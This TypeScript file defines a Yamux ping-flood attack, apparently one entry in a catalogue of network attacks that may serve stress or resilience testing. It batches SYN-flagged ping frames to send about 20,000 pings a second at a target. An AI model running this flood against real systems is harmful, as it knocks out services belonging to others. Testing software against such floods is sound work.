import { FLAG, FRAME, frameHeader } from '../foe/foe.ts'
import { Grudge } from '../foe/grudge.ts'
import type { Attack } from '../attack.ts'

const PINGS = Buffer.concat(Array.from({ length: 20 }, (_, id) => frameHeader(FRAME.ping, FLAG.syn, 0, id)))

/** Twenty at a time; each is answered by twelve bytes. */
export const pingFlood: Attack = {
  row: 3,
  what: '20,000 pings of Yamux a second',
  strikesPerSecond: 1000,
  begin: target =>
    Grudge.begin(
      target,
      () => {},
      foe => foe.bytes(PINGS)
    )
}
